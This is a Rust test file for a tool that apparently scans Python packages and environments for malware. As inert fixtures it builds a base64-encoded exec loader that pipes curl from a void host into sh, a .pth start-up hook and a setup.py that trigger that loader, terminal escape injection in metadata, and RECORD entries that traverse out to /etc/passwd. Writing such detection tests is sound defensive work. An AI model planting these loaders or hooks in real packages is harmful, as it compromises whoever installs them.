//! `hognose inspect` as people and pipelines use it. Every artifact is made here and inert: addresses are void, and
//! nothing is run.

#![expect(clippy::panic, reason = "a test stops at the first surprise")]

#[path = "inspect/archives.rs"]
mod archives;
mod common;

use std::path::Path;

use archives::{METADATA, base64, sdist, wheel};
use common::{Outcome, Sandbox, fixture};

const HONEST: &str = "import json\n\n\ndef load(path):\n    with open(path) as file:\n        return json.load(file)\n";

/// Runs `inspect` with the model of the tests.
fn inspect(sandbox: &Sandbox, arguments: &[&str]) -> Outcome {
    let model = fixture("inspect/model.toml").display().to_string();
    let mut all = vec!["inspect", "--model", &model];
    all.extend(arguments);
    sandbox.run(&all)
}

fn payload() -> String {
    let inner = base64(b"import os\nos.system('curl -s http://example.invalid/a | sh')\n");
    format!("import base64\nexec(base64.b64decode('{inner}'))\n")
}

/// A release as it should be, and the next one with a start-up hook and a downloader.
fn releases(sandbox: &Sandbox) {
    let honest = [("acme/__init__.py", HONEST.to_owned())];
    sandbox.write(
        "acme-1.4.1-py3-none-any.whl",
        wheel("acme", "1.4.1", &honest, ""),
    );
    let taken = [
        ("acme/__init__.py", HONEST.to_owned()),
        ("acme/_boot.py", payload()),
        ("acme.pth", "import acme._boot\n".to_owned()),
    ];
    let needs = "Requires-Dist: helper-void\n";
    sandbox.write(
        "acme-1.4.2-py3-none-any.whl",
        wheel("acme", "1.4.2", &taken, needs),
    );
}

fn json(outcome: &Outcome) -> serde_json::Value {
    serde_json::from_str(&outcome.stdout).unwrap_or_else(|e| panic!("{e}: {}", outcome.whole()))
}

#[test]
fn one_artifact_is_shown_with_what_decided() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    let outcome = inspect(&sandbox, &["acme-1.4.2-py3-none-any.whl"]);
    insta::assert_snapshot!(outcome.whole());
}

#[test]
fn a_directory_is_one_line_per_harmless_artifact() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    sandbox.write(
        "nested/plain-2.0.tar.gz",
        sdist("plain", "2.0", &[("plain.py", HONEST.to_owned())]),
    );
    sandbox.write("broken-1.0-py3-none-any.whl", b"PK\x03\x04 this is cut");
    let outcome = inspect(&sandbox, &["."]);
    insta::assert_snapshot!(outcome.whole());
}

#[test]
fn the_change_of_a_release_is_scored() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    let files = [
        "acme-1.4.2-py3-none-any.whl",
        "--diff",
        "acme-1.4.1-py3-none-any.whl",
    ];
    let outcome = inspect(&sandbox, &files);
    insta::assert_snapshot!(outcome.whole());
    let mut all = files.to_vec();
    all.extend(["-f", "json"]);
    let report = json(&inspect(&sandbox, &all));
    let change = &report["artifacts"][0]["change"];
    assert_eq!(change["band"], "malicious");
    let lists = change["lists"].as_array().unwrap();
    let of = |what: &str| lists.iter().find(|l| l["what"] == what).unwrap();
    assert_eq!(of("start-up hooks")["new"][0], "acme.pth");
    assert_eq!(of("dependencies")["new"][0], "helper-void");
    // Backwards, nothing is new that counts.
    let outcome = inspect(
        &sandbox,
        &[
            "acme-1.4.1-py3-none-any.whl",
            "--diff",
            "acme-1.4.2-py3-none-any.whl",
            "-f",
            "json",
        ],
    );
    let report = json(&outcome);
    assert_eq!(outcome.code, 0, "{}", outcome.whole());
    assert_eq!(report["artifacts"][0]["change"]["band"], "nothing");
}

#[test]
fn exit_codes() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    sandbox.write("empty/.keep", "");
    sandbox.write("broken.whl", b"PK\x03\x04 this is cut");
    let bad = "acme-1.4.2-py3-none-any.whl";
    let good = "acme-1.4.1-py3-none-any.whl";
    for (arguments, code) in [
        (&[good][..], 0),
        (&[bad], 1),
        (&[bad, "--fail-on", "never"], 0),
        (&[bad, "broken.whl"], 1),
        (&[good, "broken.whl"], 3),
        (&["empty"], 4),
        (&[], 2),
        (&["no/such/file.whl"], 2),
        (&["acme==1.0"], 3),
        (&[good, "--fail-on", "nothing"], 2),
        (&[good, bad, "--diff", good], 2),
        (&[good, "--diff", "9.9"], 2),
    ] {
        let outcome = inspect(&sandbox, arguments);
        assert_eq!(outcome.code, code, "{arguments:?}: {}", outcome.whole());
    }
    // A gate below moves the exit code, not the band.
    let import = [(
        "n/__init__.py",
        "import urllib.request\nurllib.request.urlopen('http://example.invalid/v')\n".to_owned(),
    )];
    sandbox.write("n-1.0-py3-none-any.whl", wheel("n", "1.0", &import, ""));
    let name = "n-1.0-py3-none-any.whl";
    assert_eq!(inspect(&sandbox, &[name]).code, 0);
    let outcome = inspect(&sandbox, &[name, "--fail-on", "suspicious"]);
    assert_eq!(outcome.code, 1, "{}", outcome.whole());
}

#[test]
fn errors_name_the_file_and_the_line() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    let artifact = "acme-1.4.1-py3-none-any.whl";
    sandbox.write("kind.toml", "version = \"1\"\nbias = 0.0\ndecay = 0.5\n[bands]\nmalicious = 95.0\nsuspicious = 50.0\nnotable = 8.0\n[rules.HOG-MAL-clipper]\npoints = { import = 1.0 }\nfacts.no-such-fact = { import = 1.0 }\n");
    sandbox.write("form.toml", "version = 1\n");
    let rule = |id: &str, rest: &str| {
        format!("[[rule]]\nid = \"{id}\"\ntitle = \"t\"\nseverity = \"low\"\n{rest}\n")
    };
    sandbox.write(
        "ours.toml",
        rule(
            "HOG-MAL-mine",
            "when = [[\"network-call\"]]\npoints = { import = 1.0 }",
        ),
    );
    sandbox.write(
        "fact.toml",
        rule(
            "ACME-x",
            "when = [[\"no-such-fact\"]]\npoints = { import = 1.0 }",
        ),
    );
    sandbox.write("mute.toml", rule("ACME-x", "when = [[\"network-call\"]]"));
    let mut shown = String::new();
    for arguments in [
        ["--model", "kind.toml"],
        ["--model", "form.toml"],
        ["--model", "missing.toml"],
        ["--rules", "ours.toml"],
        ["--rules", "fact.toml"],
        ["--rules", "mute.toml"],
    ] {
        let outcome = sandbox.run(&["inspect", artifact, arguments[0], arguments[1]]);
        assert_eq!(outcome.code, 2, "{}", outcome.whole());
        assert_eq!(outcome.stdout, "");
        shown.push_str(&format!(
            "$ {} {}\n{}\n",
            arguments[0], arguments[1], outcome.stderr
        ));
    }
    for what in [
        &["no/such/file.whl"][..],
        &["acme==1.0"],
        &[],
        &[artifact, "--diff"],
    ] {
        let outcome = inspect(&sandbox, what);
        shown.push_str(&format!("$ {}\n{}\n", what.join(" "), outcome.stderr));
    }
    insta::assert_snapshot!(shown);
}

#[test]
fn rules_of_the_user_fire_and_are_named() {
    let sandbox = Sandbox::new();
    let code = [(
        "p/__init__.py",
        "import subprocess\nsubprocess.run(['make'])\n".to_owned(),
    )];
    sandbox.write("p-1.0-py3-none-any.whl", wheel("p", "1.0", &code, ""));
    sandbox.write(
        "own.toml",
        "[[rule]]\nid = \"ACME-process\"\ntitle = \"starts anything at all\"\nseverity = \"low\"\nwhen = [[\"process-start\", \"process-shell\", \"process-build\"]]\npoints = { import = 9.0 }\n",
    );
    let outcome = inspect(
        &sandbox,
        &[
            "p-1.0-py3-none-any.whl",
            "--rules",
            "own.toml",
            "-f",
            "json",
        ],
    );
    assert_eq!(outcome.code, 1, "{}", outcome.whole());
    assert_eq!(
        json(&outcome)["artifacts"][0]["rules"][0]["id"],
        "ACME-process"
    );
}

#[test]
fn facts_are_lines_that_a_model_can_be_fitted_from() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    sandbox.write("broken.whl", b"");
    let outcome = inspect(&sandbox, &[".", "--facts"]);
    assert_eq!(outcome.code, 1, "{}", outcome.whole());
    let lines: Vec<serde_json::Value> = outcome
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let paths: Vec<&str> = lines.iter().map(|l| l["path"].as_str().unwrap()).collect();
    assert_eq!(
        paths,
        [
            "acme-1.4.1-py3-none-any.whl",
            "acme-1.4.2-py3-none-any.whl",
            "broken.whl"
        ]
    );
    let bad = &lines[1];
    assert_eq!(bad["model"], "test");
    assert_eq!(bad["band"], "malicious");
    assert_eq!(bad["counts"]["pth-code@startup"], 1);
    assert_eq!(
        bad["facts"].as_array().unwrap().len() as u64,
        bad["counts"]
            .as_object()
            .unwrap()
            .values()
            .map(|n| n.as_u64().unwrap())
            .sum::<u64>()
    );
    assert_eq!(bad["rules"][0]["id"], "HOG-MAL-exec-decoded");
    // The same lines, in a file, whatever the number of threads.
    inspect(
        &sandbox,
        &[".", "--facts", "-o", "facts.jsonl", "--jobs", "3"],
    );
    let written = std::fs::read_to_string(sandbox.work().join("facts.jsonl")).unwrap();
    assert_eq!(written, outcome.stdout);
}

#[test]
fn json_is_the_same_every_time() {
    let sandbox = Sandbox::new();
    releases(&sandbox);
    let run = |jobs: &str| {
        inspect(&sandbox, &[".", "-f", "json", "-j", jobs])
            .stdout
            .replace(&format!("-j {jobs}"), "")
    };
    assert_eq!(run("1"), run("4"));
}

#[test]
fn names_cannot_act_on_a_terminal() {
    let sandbox = Sandbox::new();
    let evil = "\u{1b}[31mowned\u{7}";
    let files = [(
        "p/__init__.py",
        format!("import os\nos.system('curl http://example.invalid/{evil}\\x1b[2J | sh')\n"),
    )];
    sandbox.write(
        "p-1.0-py3-none-any.whl",
        wheel("p", "1.0", &files, &format!("Author: {evil}\n")),
    );
    for format in ["terminal", "json", "sarif", "html", "markdown"] {
        let outcome = inspect(
            &sandbox,
            &[
                "p-1.0-py3-none-any.whl",
                "-v",
                "--color",
                "never",
                "-f",
                format,
            ],
        );
        assert!(outcome.stdout.contains("HOG-MAL-"), "{}", outcome.whole());
        assert!(
            !outcome.stdout.contains(['\u{1b}', '\u{7}']),
            "{format}: {:?}",
            outcome.stdout
        );
    }
}

#[test]
fn a_project_and_a_file_are_read_like_what_they_become() {
    let sandbox = Sandbox::new();
    let setup = format!(
        "from setuptools import setup\n{}setup(name='proj', version='1')\n",
        payload()
    );
    sandbox.write("proj/setup.py", &setup);
    sandbox.write("proj/proj/__init__.py", HONEST);
    sandbox.write("proj/.git/hooks.py", &setup);
    for path in ["proj", "proj/setup.py"] {
        let report = json(&inspect(&sandbox, &[path, "-f", "json"]));
        let one = &report["artifacts"][0];
        assert_eq!(one["band"], "malicious", "{one}");
        assert_eq!(one["rules"][0]["trigger"], "install", "{one}");
        assert_eq!(one["rules"][0]["evidence"][0]["file"], "setup.py");
    }
    let report = json(&inspect(&sandbox, &["proj", "-f", "json"]));
    assert_eq!(report["left_out"][0]["reason"], "version control");
    sandbox.write("mod.py", payload());
    let report = json(&inspect(&sandbox, &["mod.py", "-f", "json"]));
    assert_eq!(report["artifacts"][0]["rules"][0]["trigger"], "import");
}

fn environment(sandbox: &Sandbox) -> String {
    let site = "env/lib/python3.12/site-packages";
    sandbox.write("env/pyvenv.cfg", "version = 3.12.1\n");
    let put = |path: &str, text: &str| sandbox.write(&format!("{site}/{path}"), text);
    put("good/__init__.py", HONEST);
    put("good-1.0.dist-info/METADATA", METADATA);
    put(
        "good-1.0.dist-info/RECORD",
        "good/__init__.py,,\ngood-1.0.dist-info/METADATA,,\ngood-1.0.dist-info/RECORD,,\n",
    );
    put("bad/__init__.py", &payload());
    put("bad-1.0.dist-info/METADATA", METADATA);
    put(
        "bad-1.0.dist-info/RECORD",
        "bad/__init__.py,,\nbad-1.0.dist-info/METADATA,,\n",
    );
    site.to_owned()
}

#[test]
fn every_distribution_of_an_environment_is_read() {
    let sandbox = Sandbox::new();
    let site = environment(&sandbox);
    sandbox.write(
        &format!("{site}/dropped.pth"),
        "import os; os.system('curl http://example.invalid/x | sh')\n",
    );
    for arguments in [&["env"][..], &["--python", "env"], &[&site]] {
        let mut all = arguments.to_vec();
        all.extend(["-f", "json"]);
        let outcome = inspect(&sandbox, &all);
        assert_eq!(outcome.code, 1, "{}", outcome.whole());
        let report = json(&outcome);
        let bands: Vec<(String, &str)> = report["artifacts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| {
                let name = Path::new(a["path"].as_str().unwrap()).file_name().unwrap();
                (
                    name.to_string_lossy().into_owned(),
                    a["band"].as_str().unwrap(),
                )
            })
            .collect();
        let wanted = [
            ("bad-1.0.dist-info", "malicious"),
            ("good-1.0.dist-info", "nothing"),
            // The hook that no distribution owns.
            ("site-packages", "malicious"),
        ];
        assert_eq!(bands, wanted.map(|(name, band)| (name.to_owned(), band)));
    }
    // One of them alone.
    let outcome = inspect(&sandbox, &[&format!("{site}/good-1.0.dist-info")]);
    assert_eq!(outcome.code, 0, "{}", outcome.whole());
}

#[test]
fn an_environment_cannot_reach_out() {
    let sandbox = Sandbox::new();
    let site = environment(&sandbox);
    let secret = sandbox.write("secret.py", payload());
    let record = "good/__init__.py,,\n../../../../secret.py,,\n/etc/passwd,,\n";
    sandbox.write(&format!("{site}/good-1.0.dist-info/RECORD"), record);
    let outcome = inspect(
        &sandbox,
        &[&format!("{site}/good-1.0.dist-info"), "-f", "json"],
    );
    assert_eq!(outcome.code, 3, "{}", outcome.whole());
    let report = json(&outcome);
    assert_eq!(report["artifacts"][0]["rules"].as_array().unwrap().len(), 0);
    assert_eq!(
        report["artifacts"][0]["not_analysed"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    #[cfg(unix)]
    {
        sandbox.write("proj/setup.py", "from setuptools import setup\nsetup()\n");
        std::os::unix::fs::symlink(&secret, sandbox.work().join("proj/link.py")).unwrap();
        let outcome = inspect(&sandbox, &["proj"]);
        assert_eq!(outcome.code, 3, "{}", outcome.whole());
        assert!(
            outcome.stdout.contains("leads out of the directory"),
            "{}",
            outcome.whole()
        );
    }
    let _ = secret;
}

#[test]
fn an_environment_without_lists_is_incomplete() {
    let sandbox = Sandbox::new();
    let site = environment(&sandbox);
    std::fs::remove_file(
        sandbox
            .work()
            .join(format!("{site}/good-1.0.dist-info/RECORD")),
    )
    .unwrap();
    let outcome = inspect(&sandbox, &[&format!("{site}/good-1.0.dist-info")]);
    assert_eq!(outcome.code, 3, "{}", outcome.whole());
    assert!(
        outcome
            .flowing()
            .contains("neither RECORD nor another list"),
        "{}",
        outcome.whole()
    );
}

#[test]
fn explain_prints_the_page_of_a_rule() {
    let outcome = Sandbox::new().run(&["explain", "hog-mal-startup-active"]);
    assert_eq!(outcome.code, 0);
    assert!(outcome.stdout.starts_with("# HOG-MAL-startup-active\n"));
    let list = Sandbox::new().run(&["explain"]).stdout;
    assert!(list.contains("HOG-MAL-clipper"), "{list}");
}
